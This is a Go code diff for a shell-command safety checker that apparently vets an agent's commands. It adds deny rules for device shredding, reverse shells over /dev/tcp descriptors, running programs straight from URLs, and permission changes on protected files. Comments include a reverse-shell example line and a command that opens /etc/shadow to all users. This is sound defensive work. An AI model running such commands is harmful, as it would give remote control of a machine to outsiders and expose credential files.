@@ -142,6 +142,18 @@ func forkBomb(an *Analysis, i int, c *SimpleCommand, name string, args []string)
 	return Verdict{}, false
 }
 
+// socketFD reports a descriptor the line opened on /dev/tcp or /dev/udp (exec 3<>/dev/tcp/...).
+func socketFD(an *Analysis, fd string) bool {
+	for _, c := range an.Commands {
+		for _, r := range c.Redirects {
+			if r.Fd == fd && (strings.HasPrefix(r.Target, "/dev/tcp/") || strings.HasPrefix(r.Target, "/dev/udp/")) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
 // detaches reports a command that starts another in the background and returns at
 // once: setsid -f, screen -dm, tmux new -d, daemonize, start-stop-daemon -b.
 func detaches(name string, args []string) bool {
@@ -178,6 +190,11 @@ func diskCommand(c *SimpleCommand, name string, args []string) (Verdict, bool) {
 			return deny("disk-tool", "refused: %s on %s makes a new file system on a device, destroying what it holds. Make it on an image file in the workspace instead.", name, dev), true
 		}
 	}
+	if name == "shred" {
+		if dev, bad := onDevice(c, 1); bad {
+			return deny("disk-tool", "refused: shred overwrites %s, a device, destroying what it holds.", dev), true
+		}
+	}
 	if name == "wipefs" && (hasFlag(args, "a", "all") || hasFlag(args, "o", "offset")) {
 		if dev, bad := onDevice(c, 1); bad {
 			return deny("disk-tool", "refused: wipefs erases the signatures on %s, which makes its file systems unreadable.", dev), true
@@ -199,6 +216,19 @@ func (w *watch) fromNetwork(an *Analysis, i int, c *SimpleCommand, name string) 
 		if strings.HasPrefix(r.Target, "/dev/tcp/") || strings.HasPrefix(r.Target, "/dev/udp/") {
 			return deny("remote-exec", "refused: %s reads or writes %s, a network connection: a shell driven from the network (a reverse shell).", name, r.Target), true
 		}
+		if strings.HasSuffix(r.Op, "&") && socketFD(an, r.Target) {
+			// exec 3<>/dev/tcp/host/80; bash <&3
+			return deny("remote-exec", "refused: %s reads descriptor %s, which the line opened on a network connection: a shell driven from the network (a reverse shell).", name, r.Target), true
+		}
+	}
+	for _, a := range c.Argv[1:] {
+		if strings.HasPrefix(a, "-") || a == "run" && (name == "deno" || name == "bun") {
+			continue
+		}
+		if strings.HasPrefix(a, "http://") || strings.HasPrefix(a, "https://") {
+			return deny("remote-exec", "refused: %s runs its program from %s, unseen. Download it, read it, then run it in another call.", name, a), true
+		}
+		break
 	}
 	if f, ok := w.runsDownloaded(an, i, c, name); ok {
 		return deny("remote-exec", "refused: %s runs %s, which a downloader on the same line fetched, unseen. Download it, read it, then run it in another call.", name, f), true
@@ -217,7 +247,7 @@ func (w *watch) byName(an *Analysis, i int, c *SimpleCommand, name string, args 
 		}
 	}
 	switch name {
-	case "rm", "unlink", "rmdir":
+	case "rm", "unlink", "rmdir", "shred":
 		return w.remove(c, name, args)
 	case "srm", "wipe", "trash-put", "trash", "gio":
 		return w.otherDeleters(c, name, args)
@@ -243,6 +273,11 @@ func (w *watch) byName(an *Analysis, i int, c *SimpleCommand, name string, args 
 			if t, ok := w.protectedTree(c, 1, false); ok {
 				return deny("perm-tree", "refused: %s -R on %s changes the permissions or attributes of a whole system or home tree.", name, t), true
 			}
+		}
+		// The permissions or attributes of a protected file: setfacl -m o::rwx
+		// /etc/shadow, chattr +i ~/.bashrc (the mode word comes first).
+		if t, ok := w.protectedOperandIn(c, firstOperand(c.Argv, 1)+1, len(c.Argv), false); ok && w.on("protected-write") {
+			return deny("protected-write", "refused: %s on %s changes a protected system or start-up file's permissions or attributes.", name, t), true
 		}
 	case "chmod", "chown", "chgrp":
 		return w.permissions(c, name, args)
